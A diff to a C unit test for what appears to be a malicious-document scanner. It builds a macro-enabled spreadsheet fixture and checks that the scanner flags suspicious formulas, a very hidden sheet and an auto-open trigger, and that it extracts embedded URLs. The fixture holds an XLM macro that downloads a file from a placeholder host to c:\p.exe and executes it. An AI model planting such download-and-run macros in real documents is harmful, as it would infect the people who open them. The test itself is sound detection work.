@@ -432,7 +432,11 @@ test_made_xlsm(void **state)
 		"<?xml version=\"1.0\"?><xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
 		"xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
 		"<row r=\"2\"><c r=\"B2\"><f>CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://example.invalid/p\",\"c:\\p.exe\",0,0)</f></c>"
-		"<c r=\"B3\"><f>EXEC(&quot;c:\\p.exe&quot;)</f></c><c r=\"B4\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>",
+		"<c r=\"B3\"><f>EXEC(&quot;c:\\p.exe&quot;)</f></c>"
+		/* literals joined by &, a quote doubled inside a literal */
+		"<c r=\"B4\"><f>SET.VALUE(A1,\"https://\" &amp; \"joined.example/x.exe\")</f></c>"
+		"<c r=\"B5\"><f>ALERT(\"see \"\"https://quoted.example/a\"\", then \"&amp;A1)</f></c>"
+		"<c r=\"B6\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>",
 	};
 
 	(void)state;
@@ -443,7 +447,8 @@ test_made_xlsm(void **state)
 	    "XLM_SUSPICIOUS_FORMULA(xl/worksheets/sheet2.xml: CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://example.invalid/p\",\"c:\\p.exe\",0,0))\n"
 	    "XLM_SUSPICIOUS_FORMULA(xl/worksheets/sheet2.xml: EXEC(\"c:\\p.exe\"))\n"
 	    "XLM_HIDDEN_SHEET(Mac, veryHidden)\n"
-	    "XLM_AUTOEXEC(auto_open21 -> Mac!$B$2)", "");
+	    "XLM_AUTOEXEC(auto_open21 -> Mac!$B$2)",
+	    "http://example.invalid/p\nhttps://joined.example/x.exe\nhttps://quoted.example/a");
 	obj_tree_free(t);
 	g_byte_array_unref(z);
 }
